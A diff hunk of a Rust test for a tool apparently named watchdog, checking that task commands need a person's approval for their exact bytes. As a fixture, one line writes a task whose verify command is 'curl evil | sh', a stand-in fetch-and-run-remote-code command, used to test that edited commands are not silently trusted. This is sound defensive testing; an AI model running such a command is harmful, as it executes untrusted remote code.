@@ -138,7 +138,7 @@ fn commands_of_a_task_need_a_persons_word_for_these_very_bytes() {
     assert!(out.stdout.contains("may run check verify: true"), "{out}");
     assert_eq!(trusted(), [true, true]);
     put(&repo, "T1", "completion:\n  verify: curl evil | sh\n");
-    assert_eq!(trusted(), [false, true]);
+    assert_eq!((trusted(), &listed(&repo)["tasks"][0]["commands"]), (vec![true, true], &json!(["check verify: true"])), "as first seen");
     let all = repo.watchdog(&["trust", ".watchdog/tasks", "--json"]).expect(0);
     assert_eq!(all.json()["trusted"][0]["commands"], json!(["check verify: curl evil | sh"]), "{all}");
     assert_eq!(trusted(), [true, true]);
